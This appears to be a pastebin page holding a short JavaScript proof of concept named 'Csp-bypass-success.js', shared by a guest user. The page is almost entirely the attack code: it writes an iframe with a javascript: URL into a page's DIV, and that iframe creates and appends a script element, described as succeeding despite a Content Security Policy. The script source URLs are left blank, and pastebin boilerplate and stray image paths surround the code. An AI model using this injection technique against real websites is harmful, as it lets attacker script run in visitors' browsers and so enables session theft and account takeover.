Csp-bypass-success.js Guest on 13th August 2020 05:11:14 AM
  1. /* this is a script that pops an alert message */
  2. top._CVE_URL = '';
  4. /* this call will succeed although CSP */
  5. document.querySelector('DIV').innerHTML="<iframe src='javascript:var s = document.createElement(\"script\");s.src = \"\";document.body.appendChild(s);'></iframe>";

Paste is for source code and general debugging text.

Login or Register to edit, delete and keep track ofyour pastes and more.

Raw Paste

Login or Register to edit or fork this paste. It's free.